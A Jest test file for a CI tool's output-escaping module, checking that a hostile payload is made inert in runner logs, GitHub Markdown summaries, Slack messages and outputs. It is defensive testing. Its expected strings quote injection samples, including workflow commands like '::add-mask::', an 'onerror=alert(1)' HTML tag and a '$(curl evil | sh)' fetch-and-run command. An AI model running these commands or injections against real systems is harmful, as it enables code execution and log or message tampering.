// The hygiene module alone: each sink's escaping of one hostile payload (newlines, workflow commands, Markdown,
// HTML, backticks, `$(…)`), read the way the runner, GitHub's Markdown and Slack would read it.
import { describe, expect, it } from '@jest/globals'
import { annotationText, clip, logBlock, logText, markdownText, outputText, slackText } from '../src/report/hygiene.js'
import { PAYLOAD, executable } from './helpers/hostile.js'

describe('hygiene: the log', () => {
  it('logText keeps the text on one line, with no command, no control character', () => {
    const text = logText(PAYLOAD)
    expect(text.split('\n')).toHaveLength(1)
    expect(text).not.toMatch(/::(add-mask|warning|stop-commands|error|notice)|##\[|\r/)
    expect(text).not.toContain('\u001b')
    expect(text).toContain('\\n:\u200B:warning::x') // shown, as it was, but inert
    expect(text).toContain('%0A') // left as text: only annotations decode it, and core escapes % there
    // Put at the start of a line, it still cannot run.
    expect(executable(logText('::add-mask::secret'))).toBe(false)
    expect(executable(logText('   ::stop-commands::tok'))).toBe(false)
  })

  it('logBlock keeps our own lines and leaves none of them executable', () => {
    const lines = logBlock(`ok: fine\n${PAYLOAD}`).split('\n')
    expect(lines[0]).toBe('ok: fine')
    expect(lines.length).toBeGreaterThan(10)
    expect(lines.filter(executable)).toEqual([])
  })

  it('an ARN keeps its colons; a command-shaped :: anywhere is split', () => {
    expect(logText('arn:aws:s3:::bucket arn:aws:iam::123456789012:role/x')).toBe('arn:aws:s3:::bucket arn:aws:iam::123456789012:role/x')
    expect(logText('x ::set-output name=a::b')).toBe('x :\u200B:set-output name=a::b')
    expect(logText('::tok::')).toBe(':\u200B:tok::')
  })

  it('annotationText leaves newlines to @actions/core and removes control characters and command names', () => {
    expect(annotationText('a\u001b[31m\nb')).toBe('a[31m\nb')
    expect(annotationText('x\n::add-mask::s')).toBe('x\n:\u200B:add-mask::s')
  })
})

describe('hygiene: the job summary', () => {
  const md = markdownText(PAYLOAD)

  it('one line: a newline is <br>, so a heading or a table cell is not broken', () => {
    expect(md.split('\n')).toHaveLength(1)
    expect(md.split('<br>')).toHaveLength(PAYLOAD.split(/\r\n|\n/).length)
  })

  it('no HTML from outside: every < > & is an entity', () => {
    expect(md.replace(/<br>/g, '')).not.toMatch(/[<>]/)
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(md).toContain('&amp;amp;')
  })

  it('no link, image, emphasis, code span or cell from outside', () => {
    expect(md).toContain('\\[link\\](http:/\u200B/x) !\\[img\\](http:/\u200B/x) \\|pipes\\|')
    expect(md).toContain('\\`code\\` $(curl evil \\| sh) \\*em\\* \\_u\\_ \\~\\~s\\~\\~ \\\\')
    expect(md).toContain('\\# heading')
    expect(md).not.toMatch(/(^|[^\\])[|`[\]*_~]/)
  })

  it('a list marker or a heading at the start is escaped', () => {
    expect(markdownText('- item')).toBe('\\- item')
    expect(markdownText('  + item')).toBe('  \\+ item')
    expect(markdownText('1. first')).toBe('1\\. first')
    expect(markdownText('## h')).toBe('\\#\\# h')
    expect(markdownText('version 1 → 2 (min-invocations)')).toBe('version 1 → 2 (min-invocations)')
  })
})

describe('hygiene: Slack', () => {
  it('& < > are entities: no mention, no link from outside', () => {
    const text = slackText(PAYLOAD)
    expect(text).not.toMatch(/[<>]/)
    expect(text).toContain('&lt;!channel&gt; &lt;http:/\u200B/evil|text&gt; &lt;@U123&gt; &amp;amp;')
  })

  it('bounded after escaping, never cut inside an entity', () => {
    const text = slackText('<'.repeat(100), 50)
    expect(text.length).toBeLessThanOrEqual(50)
    expect(text).toMatch(/^(&lt;)+…$/)
  })
})

describe('hygiene: outputs', () => {
  it('one line, no command, bounded', () => {
    const text = outputText(PAYLOAD)
    expect(text.split('\n')).toHaveLength(1)
    expect(executable(text)).toBe(false)
    expect(text).not.toContain('::add-mask::')
    expect(outputText('x'.repeat(10_000)).length).toBe(4000)
    expect(outputText('x'.repeat(10), 5)).toBe('xxxx…')
  })

  it('clip cuts raw text only when longer', () => {
    expect(clip('abc', 3)).toBe('abc')
    expect(clip('abcd', 3)).toBe('ab…')
  })
})
